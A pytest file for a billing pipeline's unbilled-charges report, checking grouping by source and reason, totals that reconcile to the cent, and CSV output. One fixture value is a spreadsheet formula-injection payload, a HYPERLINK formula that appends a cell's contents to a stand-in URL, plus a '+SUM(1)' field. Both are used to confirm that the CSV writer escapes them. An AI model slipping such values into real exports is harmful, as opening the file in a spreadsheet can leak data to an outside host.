"""The unbilled report (ledger/unbilled.py) on a real warehouse: every imported charge no PI's project is billed
for, by source and reason, the totals reconciling to the cent, and a CSV that never runs a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D

import pytest

from ocb_pipelines.ledger.csv_safety import unsafe_cells
from ocb_pipelines.ledger.unbilled import CSV_COLUMNS, UnbilledError, build_report, write_report_csv
from ocb_pipelines.review import decisions as rd
from ocb_pipelines.review.approve import build_approved
from ocb_pipelines.review.fixtures import charge_row
from ocb_pipelines.warehouse import database as wh
from ocb_pipelines_tests.ledger.conftest import MONTH, load_source

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _rows() -> dict[str, list[dict[str, str]]]:
    return {
        "aws": [
            charge_row(resource="ok", billed="10.00"),
            charge_row(resource="test-box", billed="4.00"),  # review.flag_patterns ^test-: rejected below
            charge_row(resource="nofund", billed="7.00", fund_org=None),  # stays pending
            charge_row(resource="nopi", billed="3.30", pi_email=None),  # pending, and no PI: ownerless
            charge_row(resource="free", billed="0", ListCost="12.50"),  # priced at 0 for a list price
            charge_row(resource=HOSTILE, billed="1.25", fund_org=None, service="+SUM(1)"),  # stays pending
        ],
        "hpc": [
            charge_row(resource="node-1", billed="5.00"),
            charge_row(resource="node-2", billed="2.20", project_id=None),  # pending, and no project: ownerless
            charge_row(resource="node-3", billed="0", ListCost="0", PricingQuantity="5"),  # usage priced at 0
            charge_row(resource="node-4", billed="0.00", ListCost=""),  # nothing for nothing: billed
            charge_row(resource="legacy", billed="1.10", pi_email=None),  # approved as is, before that was refused
        ],
    }


def _ids(con) -> dict[str, str]:
    return dict(con.execute("SELECT resource_id, charge_id FROM charges_validated WHERE billing_month = ?",
                            [MONTH]).fetchall())


def _legacy_approval(con, charge_id: str) -> None:
    """An approval as is of a charge with no PI, logged before such approvals were refused (review/decisions.py
    now refuses them): a warehouse carried over keeps it, and charges_approved bills the charge to no PI."""
    con.execute(
        """INSERT INTO review_decisions (billing_month, charge_id, row_hash, decision, note, actor, decided_at, via,
               billed_cost, review_reasons, import_id)
           SELECT billing_month, charge_id, row_hash, 'approve', 'ok as is', 'old.reviewer', now()::TIMESTAMP, 'cli',
               billed_cost, review_reasons, NULL FROM charges_validated WHERE charge_id = ?""", [charge_id])


@pytest.fixture
def month(settings):
    for source, rows in _rows().items():
        load_source(settings, rows, source)
    with wh.connect(settings.warehouse_path) as con:
        ids = _ids(con)
        rd.record_decisions(con, MONTH, [rd.Decision(ids["test-box"], "reject", "not a research charge")],
                            actor="reviewer.one", via="cli")
        _legacy_approval(con, ids["legacy"])
        build_approved(con, MONTH)
    return ids


def test_every_unbilled_charge_by_source_and_reason_with_exact_totals(settings, month):
    with wh.connect(settings.warehouse_path) as con:
        report = build_report(con, MONTH)
    assert [(g.source, g.reason, g.charges, g.billed, g.list_total) for g in report.groups] == [
        ("aws", "rejected", 1, D("4.00"), D("4.00")),
        ("aws", "ownerless", 1, D("3.30"), D("3.30")),
        ("aws", "pending", 2, D("8.25"), D("8.25")),
        ("aws", "zero_priced", 1, D("0"), D("12.50")),
        ("hpc", "ownerless", 2, D("3.30"), D("3.30")),
        ("hpc", "zero_priced", 1, D("0"), D("0")),
    ]
    notes = {x.resource_id: (x.reason, x.status, x.note) for x in report.lines}
    assert notes["test-box"] == ("rejected", "rejected", "not a research charge")
    assert notes["nofund"] == ("pending", "pending", "missing_fund_org")
    assert notes[HOSTILE] == ("pending", "pending", "missing_fund_org")
    assert notes["nopi"] == ("ownerless", "pending", "no PI; pending review: missing_pi_email")
    assert notes["node-2"] == ("ownerless", "pending", "no project; pending review: missing_project")
    assert notes["legacy"] == ("ownerless", "approved", "no PI: approved as is, on no PI's statement")
    assert notes["free"] == ("zero_priced", "unflagged", "billed 0 for list 12.5")
    assert notes["node-3"] == ("zero_priced", "unflagged", "billed 0 for list 0, quantity 5")
    assert "ok" not in notes and "node-4" not in notes and "node-1" not in notes
    t = report.totals()
    imported = D("10.00") + 4 + 7 + D("3.30") + 0 + D("1.25") + 5 + D("2.20") + 0 + 0 + D("1.10")
    assert t["imported"] == {"charges": 11, "billed": imported}
    # by status: imported = approved + pending + rejected, to the cent
    assert (t["approved"], t["pending"], t["rejected"]) == (
        {"charges": 6, "billed": D("16.10")}, {"charges": 4, "billed": D("13.75")}, {"charges": 1, "billed": D(4)})
    assert t["approved"]["billed"] + t["pending"]["billed"] + t["rejected"]["billed"] == imported
    assert t["charges_approved"] == t["approved"]
    assert t["billed_to_statements"] == {"charges": 5, "billed": D("15.00")}  # the legacy charge reached no PI
    # by reason: the lines; what reached a PI's project statement + what did not = imported
    assert t["reasons"]["ownerless"] == {"charges": 3, "billed": D("6.60"), "list": D("6.60")}
    assert t["reasons"]["zero_priced"] == {"charges": 2, "billed": D(0), "list": D("12.50")}
    assert t["not_billed"] == {"charges": 6, "billed": D("18.85")}
    assert t["billed_to_statements"]["billed"] + t["not_billed"]["billed"] == imported
    assert report.problems() == []
    assert all(isinstance(v, D) for g in report.groups for v in (g.billed, g.list_total))
    assert report.describe()[0].startswith("imported $33.85 (11 rows) = approved $16.10 + pending $13.75")


def test_the_csv_holds_every_line_and_never_a_formula(settings, month):
    with wh.connect(settings.warehouse_path) as con:
        report = build_report(con, MONTH)
    path, status, _ = write_report_csv(report, settings.output.journal_dir)
    assert (path.name, status) == (f"unbilled_{MONTH}.csv", "written")
    text = path.read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(report.lines) == 8
    hostile = next(r for r in rows if r["resource"].endswith('"click")'))
    assert hostile["resource"] == "'" + HOSTILE and hostile["service"] == "'+SUM(1)"  # text, not a formula
    assert (hostile["billed"], hostile["source"], hostile["pi"], hostile["project"]) == (
        "1.250000000000", "aws", "pi.one@example.edu", "proj-a")
    assert (hostile["file"], hostile["row"], hostile["status"]) == (f"aws_{MONTH}.csv", "6", "pending")
    assert sum((D(r["billed"]) for r in rows), D(0)) == report.unbilled_billed  # zero-priced lines bill 0


def test_the_csv_is_never_overwritten_and_unchanged_writes_nothing(settings, month):
    directory = settings.output.journal_dir
    with wh.connect(settings.warehouse_path) as con:
        first, status, sha = write_report_csv(build_report(con, MONTH), directory)
        again = write_report_csv(build_report(con, MONTH), directory)
        assert again == (first, "unchanged", sha)
        rd.record_decisions(con, MONTH, [rd.Decision(month["nofund"], "reject", "no fund, no bill")],
                            actor="reviewer.one", via="cli")
        build_approved(con, MONTH)
        second, status, _ = write_report_csv(build_report(con, MONTH), directory)
    assert (second.name, status) == (f"unbilled_{MONTH}_2.csv", "written")
    assert "no fund, no bill" in second.read_text() and "no fund, no bill" not in first.read_text()
    assert sorted(p.name for p in directory.iterdir()) == [f"unbilled_{MONTH}.csv", f"unbilled_{MONTH}_2.csv"]


def test_an_out_of_date_charges_approved_is_a_problem_not_mixed_in(settings, month):
    with wh.connect(settings.warehouse_path) as con:  # a decision after charges_approved was built
        rd.record_decisions(con, MONTH, [rd.Decision(month["nofund"], "correct", "fund found",
                                                     fund_org="ABC-123456")], actor="reviewer.one", via="cli")
        report = build_report(con, MONTH)
    t = report.totals()
    assert t["approved"]["billed"] == D("23.10") and t["charges_approved"]["billed"] == D("16.10")
    (problem,) = report.problems()
    assert "charges_approved holds 6 charge(s) $16.10 but the review state approves 7 $23.10" in problem
    assert "materialise charges_approved for 2025-01" in problem


def test_an_unknown_month_is_refused(settings, month):
    with wh.connect(settings.warehouse_path) as con, pytest.raises(UnbilledError, match="2031-01 does not exist"):
        build_report(con, "2031-01")


def test_a_month_with_nothing_unbilled_has_no_groups(settings):
    load_source(settings, [charge_row(resource="ok", billed="10.00")], "aws")
    with wh.connect(settings.warehouse_path) as con:
        build_approved(con, MONTH)
        report = build_report(con, MONTH)
    assert report.lines == () and report.groups == [] and report.problems() == []
    assert report.totals()["billed_to_statements"] == {"charges": 1, "billed": D("10.00")}
